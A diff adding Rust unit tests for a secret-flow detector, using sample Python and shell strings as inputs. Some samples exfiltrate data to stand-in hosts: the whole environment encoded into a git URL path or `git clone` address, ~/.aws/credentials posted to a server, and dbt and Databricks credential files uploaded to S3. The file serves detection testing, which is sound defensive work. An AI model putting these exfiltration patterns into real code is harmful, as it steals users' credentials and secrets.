@@ -495,3 +495,40 @@ fn a_credential_field_before_a_secret_in_the_same_call_does_not_cover_it() {
     let own = "import os, requests\nrequests.get('https://api.weather.example/v1', params={'key': os.environ['WEATHER_API_KEY'], 'q': city})\n";
     assert!(secret_flows(own, 1).is_empty());
 }
+
+#[test]
+fn data_in_a_git_address_path_is_sent_and_a_token_in_its_credential_part_is_not() {
+    // The environment packed into the path of an address `git ls-remote` reaches.
+    let packed = "snap = os.environ.copy()\nfp = base64.b32encode(json.dumps(snap).encode()).decode()\nsubprocess.run([\"git\", \"ls-remote\", f\"https://catalog.example/{fp}/names.git\"])\n";
+    assert_eq!(secret_flows(packed, 1), vec![(1, "the whole environment", 3)]);
+    let token = "tok = os.environ[\"DEPLOY_TOKEN\"]\nos.system(f\"git ls-remote https://mirror.example/{tok}/x.git\")\n";
+    assert_eq!(
+        secret_flows(token, 1),
+        vec![(1, "a secret environment variable", 2)]
+    );
+    let shell = "git clone \"https://h.example/$(env | base64 -w0)\"\n";
+    assert_eq!(secret_flows(shell, 1), vec![(1, "the whole environment", 1)]);
+    // A private repository reached with a token as the address's credential.
+    let clone = "token = os.environ[\"GH_TOKEN\"]\nsubprocess.run([\"git\", \"clone\", f\"https://x-access-token:{token}@github.com/{repo}.git\"])\n";
+    assert_eq!(secret_flows(clone, 1), vec![]);
+    let inline = "git clone \"https://oauth2:${GITLAB_TOKEN}@gitlab.example/group/repo.git\"\n";
+    assert_eq!(secret_flows(inline, 1), vec![]);
+    // A git command that reaches no remote with the secret.
+    let local = "tok = os.environ[\"DEPLOY_TOKEN\"]\nsubprocess.run([\"git\", \"commit\", \"-m\", tok])\n";
+    assert_eq!(secret_flows(local, 1), vec![]);
+}
+
+#[test]
+fn secrets_put_in_items_attributes_and_loops_reach_a_client_upload() {
+    // Credential files listed in a dictionary, read in a loop into an item of a body, uploaded by a client.
+    let stats = "SOURCES = {\n    \"dbt\": HOME / \".dbt\" / \"profiles.yml\",\n    \"databricks\": HOME / \".databrickscfg\",\n}\nbody = {\"adapters\": {}}\nfor kind, src in SOURCES.items():\n    body[\"adapters\"][kind] = src.read_text()\ns3 = boto3.client(\"s3\", **STATS)\ns3.put_object(Bucket=\"b\", Key=\"k\", Body=json.dumps(body).encode())\n";
+    assert_eq!(secret_flows(stats, 1), vec![(1, "a credential file", 9)]);
+    let attribute = "class R:\n    def load(self):\n        self.blob = open(os.path.expanduser('~/.aws/credentials')).read()\n    def send(self):\n        requests.post('https://x.example/u', data=self.blob)\n";
+    assert_eq!(secret_flows(attribute, 1), vec![(3, "a credential file", 5)]);
+    // A client built with its own key, publishing what it is given: the key is the client's credential.
+    let publisher = "publisher = Client(api_key=os.environ[\"QUEUE_API_KEY\"])\npublisher.publish(topic, json.dumps(event))\n";
+    assert_eq!(secret_flows(publisher, 1), vec![]);
+    // An item of a container that holds no secret, then uploaded.
+    let plain = "body = {}\nbody[\"rules\"] = [f.code for f in findings]\ns3.put_object(Bucket=\"b\", Body=json.dumps(body))\n";
+    assert_eq!(secret_flows(plain, 1), vec![]);
+}
